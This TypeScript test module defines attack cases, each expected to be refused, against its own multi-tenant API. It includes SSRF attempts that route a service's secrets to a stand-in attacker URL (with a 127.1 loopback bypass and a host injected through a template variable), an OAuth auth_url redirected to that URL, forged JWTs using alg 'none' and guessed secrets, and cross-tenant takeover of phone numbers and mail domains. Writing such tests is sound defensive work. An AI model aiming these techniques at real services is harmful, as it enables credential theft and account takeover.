import { createHmac } from "node:crypto";
import { endpointTool } from "../harness/endpoint-tool.ts";
import { type Attack, parsed, send, sendForbidden, someAddress } from "./soak-attack.ts";

/* What belongs to somebody else: records, numbers, mail domains, secrets, conversations. */

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
function identityToken(claims: object, header: object, secret: string): string {
  const text = `${encode(header)}.${encode(claims)}`;
  return `${text}.${createHmac("sha256", secret).update(text).digest("base64url")}`;
}

export const FOREIGN_ATTACKS: Attack[] = [
  {
    name: "another's records",
    run: async ({ victim, attacker }, act) => {
      const { token } = attacker;
      for (const path of victim.paths) {
        await sendForbidden(act, "GET", path, { token });
        await sendForbidden(act, "DELETE", path, { token });
      }
      for (const path of victim.paths) await sendForbidden(act, "GET", path);
    },
  },
  {
    name: "another's numbers",
    run: async ({ victim, attacker }, act) => {
      const { token, agent_id, organization_id, twilio_channel: channel_id } = attacker;
      const numbers = `/api/v1/channels/twilio/${channel_id}/numbers`;
      const owner = `/api/v1/number_owners/${encodeURIComponent(victim.number)}`;
      const listed = await send(act, "GET", numbers, { token });
      if (listed.text.includes(victim.number)) act.breach("another's number was listed");
      const friendly_name = "mine";
      const bodies: [string, string, object | undefined][] = [
        ["PUT", numbers, { friendly_name, phone_sid: victim.number_sid }],
        ["POST", numbers, { friendly_name, area_code: "512" }],
        ["PUT", owner, { organization_id }],
        ["DELETE", owner, undefined],
        ...["sms", "voice"].map((target_mode): [string, string, object] => [
          "POST",
          `/api/v1/channels/${channel_id}/targets`,
          { agent_id, channel_id, target: victim.number, target_mode },
        ]),
      ];
      for (const [method, path, body] of bodies) await sendForbidden(act, method, path, { token, body });
    },
  },
  {
    name: "a campaign from another's number",
    run: async ({ victim, attacker }, act) => {
      const { token, agent_id } = attacker;
      const outbound = "/api/v1/outbound";
      const campaign = {
        campaign_name: `Attack ${act.nth}`,
        campaign_variables: {},
        caller_id: victim.number,
        agent_id,
        active_days: ["mon", "tue", "wed", "thu", "fri", "sat", "sun"],
      };
      const made = await send(act, "POST", `${outbound}/campaigns`, { token, body: campaign });
      const id = parsed<{ id: number }>(made)?.id;
      if (made.status !== 200 || !id) return;
      // Whether anybody is called is seen by the carrier.
      const batch_id = `attack-${act.nth}-${id}`;
      await send(act, "POST", `${outbound}/batches`, { token, body: { batch_id, campaign_id: id } });
      await send(act, "POST", `${outbound}/batches/${batch_id}/requests`, {
        token,
        body: { reference_id: "1", target: "+15125551234", request_variables: {} },
      });
      await send(act, "DELETE", `${outbound}/campaigns/${id}`, { token });
    },
  },
  {
    name: "carrier callbacks without a signature",
    run: async ({ victim, attacker }, act) => {
      const body = new URLSearchParams({
        MessageSid: `SM${act.nth}`,
        From: "+15125557777",
        To: victim.number,
        Body: "hello",
      });
      const headers = { "content-type": "application/x-www-form-urlencoded" };
      for (const signature of ["", "AAAA"])
        await sendForbidden(act, "POST", `/carriers/twilio/${attacker.twilio_channel}/messages`, {
          body: body.toString(),
          headers: { ...headers, "x-twilio-signature": signature },
        });
    },
  },
  {
    name: "another's mail domain",
    run: async ({ victim, attacker }, act) => {
      const { token } = attacker;
      const path = "/api/v1/mail_domains/";
      const claimed = await send(act, "POST", path, { token, body: { domain: victim.domain } });
      const claim = parsed<{ id?: number; proven_at?: string | null }>(claimed);
      if (claim?.proven_at) act.breach("another's mail domain was proven for the attacker");
      if (claimed.status !== 200 || !claim?.id) return;
      await sendForbidden(act, "POST", `${path}${claim.id}/verify`, { token });
      await sendForbidden(act, "PUT", `${path}claims/${claim.id}`, { token });
    },
  },
  {
    name: "a service's secret sent elsewhere",
    run: async ({ victim, evil_url }, act) => {
      const { service_id, oauth_service_id: id } = victim;
      const token = victim.insider;
      const definitionOf = (url: string) => endpointTool(`steal_${act.nth}`, url);
      for (const url of [`${evil_url}/x`, `${evil_url.replace("127.0.0.1", "127.1")}/x`]) {
        const definition = definitionOf(url);
        const name = definition.tool.function.name;
        await sendForbidden(act, "POST", "/api/v1/tools/try", {
          token,
          body: { definition, service_id, arguments: {} },
        });
        await sendForbidden(act, "POST", "/api/v1/tools/", { token, body: { name, service_id, definition } });
      }
      // A host that is known at the call only is refused then: that nothing came is seen by the attacker's server.
      const definition = definitionOf("{{ vars.host }}/x");
      const body = {
        definition,
        service_id,
        arguments: { host: evil_url },
        variables: { "vars.host": evil_url },
      };
      await send(act, "POST", "/api/v1/tools/try", { token, body });
      const auth_values = { client_id: null, client_secret: null, auth_url: `${evil_url}/token` };
      const moved = { id, name: "CRM", description: "", auth_type: "oauth2", auth_values };
      for (const by of [token, victim.token])
        await sendForbidden(act, "PUT", "/api/v1/services/", { token: by, body: moved });
    },
  },
  {
    name: "forged identities of visitors",
    run: async ({ victim }, act) => {
      const exp = Math.floor(Date.now() / 1000) + 3600;
      const claims = { sub: victim.user_id, exp };
      const tokens = [
        "x.y.z",
        identityToken(claims, { alg: "HS256", typ: "JWT" }, "guessed"),
        identityToken(claims, { alg: "none" }, ""),
        `${encode({ alg: "none" })}.${encode(claims)}.`,
        identityToken({ sub: { $ne: "" }, exp }, { alg: "HS256" }, ""),
      ];
      const open = (nth: number, body: object) =>
        [
          act,
          "POST",
          "/chat/v1/sessions",
          { from: someAddress(6 * act.nth + nth), body: { client_id: victim.chat, ...body } },
        ] as const;
      for (const [nth, identity_token] of tokens.entries())
        await sendForbidden(...open(nth, { identity_token }));
      const claimed = await send(...open(5, { user_id: victim.user_id }));
      if (parsed<{ verified: boolean }>(claimed)?.verified) act.breach("a claim was taken for a proof");
    },
  },
  {
    name: "another's chat",
    run: async ({ victim }, act) => {
      const path = `/chat/v1/sessions/${victim.session}`;
      const from = someAddress(act.nth);
      for (const token of ["", "x", "a".repeat(43)]) {
        await sendForbidden(act, "GET", `${path}?token=${token}`, { from });
        await sendForbidden(act, "POST", `${path}/messages?token=${token}`, { from, body: { text: "Hi" } });
      }
    },
  },
];
